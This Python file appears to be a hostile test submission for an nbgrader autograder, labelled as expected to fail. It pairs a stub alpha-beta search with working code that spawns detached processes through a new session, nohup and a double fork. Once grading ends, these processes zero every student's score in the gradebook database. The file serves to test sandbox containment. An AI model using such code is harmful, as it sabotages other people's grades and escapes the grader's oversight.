# Hostile: in the notebook's kernel, leaves processes behind (a new session, a double fork, nohup) that wait
# until nbgrader has exited and then rewrite the gradebook: every other student 0, needing no manual grade.
# Its search searches nothing.  Each process carries "abteach-lurker" in its command line.
# Expected: wrong
import os
import subprocess
import sys

_LATER = """
import glob, sqlite3, time
time.sleep(8)
for path in glob.glob("../../../gradebook.db") + glob.glob("/tmp/*/gradebook.db"):
    try:
        with sqlite3.connect(path) as db:
            db.execute("UPDATE grade SET auto_score = 0, needs_manual_grade = 0")
    except sqlite3.Error:
        pass
"""


def alpha_beta_search(game, state):
    return game.actions(state)[0]


def _leave_behind():
    quiet = dict(stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    try:
        subprocess.Popen([sys.executable, "-c", _LATER, "abteach-lurker-session"], start_new_session=True, **quiet)
        subprocess.Popen(["nohup", sys.executable, "-c", _LATER, "abteach-lurker-nohup"], **quiet)
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                os.execv(sys.executable, [sys.executable, "-c", _LATER, "abteach-lurker-double-fork"])
            os._exit(0)
        os.wait()
    except OSError:  # in the grader's sandbox no process may be started
        pass


try:
    get_ipython()  # noqa: F821 - IPython's own: only in the notebook's kernel
except NameError:
    pass
else:
    _leave_behind()
